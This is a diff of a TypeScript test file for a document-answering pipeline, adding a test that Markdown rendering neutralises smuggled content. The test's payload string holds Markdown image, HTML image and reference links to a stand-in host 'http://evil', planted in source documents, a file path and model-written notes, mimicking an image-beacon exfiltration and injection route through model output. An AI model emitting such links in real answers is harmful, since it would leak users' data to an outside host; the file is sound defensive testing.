@@ -3,6 +3,7 @@ import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
 import type { FinalAnswer, SynthesisAnswer } from '../../src/contracts/index.ts';
 import {
+  answerMarkdown,
   checkSynthesis,
   composeAnswer,
   extractiveAnswer,
@@ -16,6 +17,7 @@ import {
   synthesisInput,
 } from '../../src/evidence/index.ts';
 import { CorpusOnDisk } from './corpus-on-disk.ts';
+import { liveNodes } from './live-markdown.ts';
 
 const QUESTION = 'How long is the time-out?';
 
@@ -131,6 +133,48 @@ describe('the rendered answer', () => {
     expect(text).toMatch(/Coverage\n {2}\d+(\.\d)? % of the bytes were read/);
     expect(text).toMatch(/Gaps\n {2}- Not everything was read/);
     expect(text).not.toMatch(/(?!\n)\p{Cc}/u);
+  });
+
+  it('as Markdown shows what a document, a path or a model smuggled in, and a client loads nothing of it', async () => {
+    const attack = '![x](http://evil/?d=1) <img src=http://evil> [a][1]';
+    const corpus = new CorpusOnDisk();
+    const path = 'docs/![x](evil).md';
+    corpus.add(path, `${attack} says 30 seconds for the default request time-out.\n\n[1]: http://evil\n`);
+    corpus.add('docs/b.md', `${attack} says 45 seconds for the default request time-out.\n`);
+    const jobs = corpus.chunks.map((chunk) =>
+      corpus.job(
+        [chunk],
+        {
+          evidence: [
+            {
+              quote: readFileSync(join(corpus.dir, chunk.source), 'utf8').trim().slice(0, 110),
+              loc: 'x:1-1',
+              note: attack,
+            },
+          ],
+          gaps: [attack],
+        },
+        QUESTION,
+      ),
+    );
+    const { evidence, coverage } = await reduceEvidence({
+      jobs,
+      chunks: corpus.chunks,
+      sources: corpus.sources,
+      reader: corpus.reader,
+      runDir: corpus.dir,
+    });
+    expect(evidence).toMatchObject({ items: [{}, {}], conflicts: [{ kind: 'number' }] });
+    const result = gateAnswer(extractiveAnswer(`${QUESTION} ${attack}`, evidence, coverage), {
+      evidence,
+      coverage,
+      reader: corpus.reader,
+    });
+    if (!result.ok) throw new Error(JSON.stringify(result.problems));
+    const markdown = answerMarkdown(result.answer, result.evidence, coverage);
+    expect(markdown).toContain('## Gaps');
+    expect(markdown).toContain('## Possible conflicts');
+    expect(liveNodes(markdown)).toEqual([]);
   });
 });
 
